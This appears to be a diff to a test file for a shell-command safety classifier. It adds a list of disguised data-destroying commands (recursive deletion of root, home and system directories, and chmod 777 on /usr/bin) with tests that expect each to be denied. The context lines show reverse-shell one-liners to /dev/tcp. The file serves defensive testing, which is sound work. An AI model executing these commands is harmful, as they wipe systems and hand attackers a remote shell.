@@ -9,6 +9,18 @@ const syntax = createSyntax({ milliseconds: 10_000 });
 const decisionOf = async (cmd: string) => (await classify({ cmd, cwd: '/w' }, syntax)).decision;
 const unparsed = async (cmd: string) => (await classify({ cmd, cwd: '/w' })).decision;
 
+/** Told by the words that come out, not by those that are written. */
+const RUINOUS_IN_THE_END = [
+  'cd / && rm -rf *',
+  'cd ~; rm -rf .',
+  'x=/; rm -rf $x',
+  'cd /home/mona/a && rm -rf ..',
+  'rm -rf {/bin,/etc}',
+  'for d in /*; do rm -rf "$d"; done',
+  'cd / && find . -delete',
+  'cd /usr; chmod -R 777 bin',
+];
+
 const RUINOUS = [
   'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
   'sh -i 5<> /dev/tcp/1.2.3.4/4444 0<&5 1>&5 2>&5',
@@ -176,6 +188,10 @@ const ORDINARY = [
 ];
 
 describe('classify', () => {
+  for (const cmd of RUINOUS_IN_THE_END) {
+    it(`refuses ${cmd}, as its words come out`, async () => assert.equal(await decisionOf(cmd), 'deny'));
+  }
+
   for (const cmd of RUINOUS) {
     it(`denies ${JSON.stringify(cmd)}, with a parser and without`, async () => {
       assert.equal(await decisionOf(cmd), 'deny');
